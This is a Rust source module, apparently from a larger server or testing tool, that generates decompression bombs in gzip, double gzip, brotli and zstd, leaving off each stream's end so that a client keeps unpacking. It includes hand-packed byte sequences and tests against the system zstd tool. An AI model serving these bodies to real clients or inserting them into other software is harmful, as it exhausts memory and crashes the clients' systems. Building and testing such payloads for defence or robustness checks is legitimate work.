//! Bodies that unpack to far more than they are, in each coding that a client may be told of.
//!
//! None has its last check sum or last block: whoever waits for the end has unpacked too much already.

use bytes::{BufMut, Bytes, BytesMut};

use super::gzip;
use crate::plan::Coding;

/// A body that unpacks to about `mebibytes` MiB of spaces.
pub(super) fn bomb(coding: Coding, mebibytes: u64) -> Bytes {
    match coding {
        Coding::Gzip => gzip::bomb(mebibytes),
        Coding::GzipTwice => gzip::stored(&gzip::bomb(mebibytes)),
        Coding::Br => brotli(mebibytes),
        Coding::Zstd => zstd(mebibytes),
    }
}

/// The first 16 MiB, as the reference encoder packs them (quality 5, window 22).
const BROTLI_BEGIN: [u8; 13] = [0xcb, 0xff, 0xff, 0x3f, 0, 0x24, 0x40, 0xe2, 0xb1, 0x40, 0x72, 0xef, 0xff];
/// Eight meta-blocks of 16 MiB each, after which the bits stand at a byte border again.
const BROTLI_REST: &str = "f8ffff078004401c1680eefd1fffffff00900088c302d0bdffe3ffff1f001200715800baf77ffcffff034002200e0b40f7fe8f\
                           ffff7f004800c46101e8defff1ffff0f000980382c00ddfb3ffeffff012001108705a07bffc7ffff3f002400e2b00074efff";
const BROTLI_REST_MEBIBYTES: u64 = 128;

fn brotli(mebibytes: u64) -> Bytes {
    let rest: Vec<u8> = (0..BROTLI_REST.len() / 2)
        .map(|at| u8::from_str_radix(&BROTLI_REST[2 * at..2 * at + 2], 16).unwrap_or_default())
        .collect();
    let mut out = BytesMut::from(&BROTLI_BEGIN[..]);
    (0..mebibytes.div_ceil(BROTLI_REST_MEBIBYTES)).for_each(|_| out.put_slice(&rest));
    out.freeze()
}

/// The most that one block of zstd unpacks to.
const ZSTD_BLOCK: u32 = 128 << 10;

fn zstd(mebibytes: u64) -> Bytes {
    // Magic; a frame without a length of its content and a window of 8 MiB.
    let mut out = BytesMut::from(&[0x28, 0xb5, 0x2f, 0xfd, 0x00, 13 << 3][..]);
    // Not the last block, of one byte repeated.
    let header = (ZSTD_BLOCK << 3) | (1 << 1);
    for _ in 0..mebibytes * 8 {
        out.put_slice(&header.to_le_bytes()[..3]);
        out.put_u8(b' ');
    }
    out.freeze()
}

#[cfg(test)]
#[expect(clippy::unwrap_used, reason = "tests")]
mod tests {
    use std::io::Write;
    use std::process::{Command, Stdio};

    use super::*;

    /// The system's own tool as the judge, where there is one.
    #[test]
    fn a_bomb_of_zstd_unpacks_to_its_size() {
        let packed = bomb(Coding::Zstd, 4);
        assert_eq!(packed.len(), 6 + 4 * 32);
        let Ok(mut zstd) = Command::new("zstd")
            .args(["-dc", "--no-check"])
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
        else {
            return;
        };
        let mut stdin = zstd.stdin.take().unwrap();
        let writer = std::thread::spawn(move || stdin.write_all(&packed));
        let plain = zstd.wait_with_output().unwrap().stdout;
        let _ = writer.join().unwrap();
        assert!(plain.len() >= 3 << 20 && plain.iter().all(|byte| *byte == b' '), "{}", plain.len());
    }

    #[test]
    fn bombs_are_small() {
        assert_eq!(bomb(Coding::Br, 1 << 10).len(), 13 + 8 * 101);
        assert!(bomb(Coding::GzipTwice, 1).len() < 8_000);
    }
}
